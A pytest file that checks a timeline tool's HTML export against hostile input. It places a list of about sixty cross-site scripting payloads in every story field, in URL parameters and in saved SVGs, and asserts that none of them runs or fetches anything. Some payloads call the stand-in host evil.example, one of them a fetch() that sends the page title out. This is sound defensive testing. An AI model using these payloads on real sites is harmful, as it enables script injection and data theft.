"""What hostile data in any field of a story can do to the page that shows it: nothing."""

from __future__ import annotations

from datetime import date, timedelta
from pathlib import Path
from urllib.parse import quote

import pytest
from browsing import Opener

from dateline.exports import Export
from dateline.exports.page import clean
from dateline.graph.model import (
    Actor,
    Claim,
    Document,
    Event,
    Figures,
    Place,
    Range,
    Relation,
    Span,
    Timeline,
    TimeSpan,
    Trigger,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script src=http://evil.example/x.js></script>",
    "<script>fetch('http://evil.example/'+document.title)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><style>@import 'http://evil.example/x'</style>",
    "</noscript><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</table><script>alert(1)</script>",
    "</bdi><img src=x onerror=alert(1)>",
    "<img src=http://evil.example/x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src='x'/onerror=alert(1)>",
    "<image href=http://evil.example/x>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=http://evil.example/x autoplay>",
    "<iframe src=http://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/></object>",
    "<embed src=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button autofocus>x</button></form>",
    '"><svg onload=alert(1)>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=http://evil.example/x.svg#a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'http://evil.example/" onclick="alert(1)',
    "http://evil.example/' onmouseover='alert(1)",
    "x' style='background:url(http://evil.example/)",
    "url(http://evil.example/x)",
    "http://evil.example/plain",
    "'-alert(1)-'",
    '";alert(1);//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u2028alert(1)\u2029",
    "\u202eevil\u2066",
    "__proto__",
    "constructor",
    "toString",
]
BASE = "https://evil.example/"
ALL_CARDS = """async () => {
  const { strings, events, actors, places } = JSON.parse(document.getElementById('story').textContent);
  const seen = { titles: [], links: [] };
  for (const [key] of [...events, ...actors, ...places]) {
    location.hash = new URLSearchParams({ view: 'table', to: '2019-01-01', show: strings[key] });
    await new Promise((done) => addEventListener('hashchange', () => setTimeout(done), { once: true }));
    seen.titles.push(document.getElementById('card-title').textContent);
    seen.links.push(...[...document.querySelectorAll('#card a')].map((link) => link.protocol));
  }
  return seen;
}"""


@pytest.fixture(scope="module")
def poisoned() -> Export:
    """A story with each payload in every field of an event, an actor, a place and a document."""
    documents, actors, places, events, relations = [], [], [], [], []
    for i, payload in enumerate(PAYLOADS):
        iri = f"{BASE}{payload}{i}"
        documents.append((iri, Document(payload, payload * 2, payload, payload, payload)))
        actors.append(Actor(f"{iri}a", payload, payload, payload, payload, (f"{payload}!",), (payload,)))
        places.append(Place(f"{iri}p", payload, payload, payload, i / 2, i / 3, (payload,), (f"{iri}p",)))
        trigger = Trigger(0, len(payload), payload, Span(0, len(payload)))
        day = TimeSpan(date(2020, 1, 1) + timedelta(i), date(2020, 1, 2) + timedelta(i))
        figures = Figures(fatalities=Range(i, None), outcome=payload)
        claim = Claim(
            f"{iri}c",
            payload,
            payload,
            payload,
            (trigger,),
            time=Span(0, 1),
            source=f"{iri}a",
            figures=figures,
            rule=payload,
            date_reason=payload,
        )
        events.append(
            Event(
                f"{iri}e",
                payload,
                payload,
                payload,
                "Actual",
                agents=(f"{iri}a",),
                places=(f"{iri}p",),
                begin=day,
                end=day,
                date=payload,
                figures=figures,
                claims=((iri, claim),),
                reasons=(payload,),
            )
        )
        relations.append(Relation("before", f"{iri}e", events[0].id))
    timeline = Timeline(tuple(documents), tuple(actors), tuple(places), tuple(events), tuple(relations[1:]))
    return Export(timeline, base=BASE, title=PAYLOADS[1])


def test_sixty_payloads_in_every_field_run_nothing_and_ask_for_nothing(poisoned: Export, opened: Opener) -> None:
    assert len(PAYLOADS) >= 60
    shown = opened(poisoned)
    page = shown.page
    assert f"{len(PAYLOADS)} of {len(PAYLOADS)} events" in shown.text("#shown")
    seen = page.evaluate(ALL_CARDS)
    assert set(seen["links"]) == {"http:"}
    labels = [clean.label(payload) for payload in PAYLOADS]
    assert seen["titles"] == [*(label[:1].upper() + label[1:] for label in labels), *labels, *labels]
    for key in ("2", "j", "3", "j", "4", "j", "1", "j", "e", "h"):
        page.keyboard.press(key)
    for facet in ("type", "actor", "place", "source"):
        page.locator(f"#facet-{facet} input").first.click()
    page.get_by_role("button", name="Reset all").click()
    for payload in PAYLOADS[::6]:
        page.fill("#search", payload[:8])
    page.keyboard.press("ArrowUp")
    page.keyboard.press("Enter")  # filters by the words as typed
    page.click("#lanes-actor")
    assert (shown.said, shown.asked) == ([], [])
    assert page.locator("script").count() == 5  # ours: three of data, vis-network, the page's own


def test_without_scripts_nothing_is_asked_for_either(poisoned: Export, opened: Opener) -> None:
    plain = opened(poisoned, scripts=False)
    assert plain.page.locator(".static tbody tr").count() == len(PAYLOADS)
    assert plain.page.locator(".static :is(script, img, iframe, form, svg, a)").count() == 0
    assert (plain.said, plain.asked) == ([], [])


def test_an_address_can_carry_no_code(poisoned: Export, opened: Opener) -> None:
    names = ("view", "lanes", "show", "type", "actor", "place", "source", "from", "to", "sure", "text", "theme")
    for payload in (PAYLOADS[17], "__proto__"):
        shown = opened(poisoned, "#" + "&".join(f"{name}={quote(payload)}" for name in names))
        assert (shown.said, shown.asked) == ([], [])


def test_a_saved_drawing_carries_no_code(poisoned: Export, opened: Opener, tmp_path: Path) -> None:
    for view in ("graph", "timeline", "map"):
        shown = opened(poisoned, f"#view={view}")
        drawing = tmp_path / f"{view}.svg"
        drawing.write_bytes(shown.saved("#save-svg"))
        shown.page.goto(drawing.as_uri())  # here no policy forbids anything
        assert shown.page.locator("text").count() > 3
        assert shown.page.locator("script, image, a, use, foreignObject").count() == 0
        assert (shown.said, shown.asked) == ([], [drawing.as_uri()])
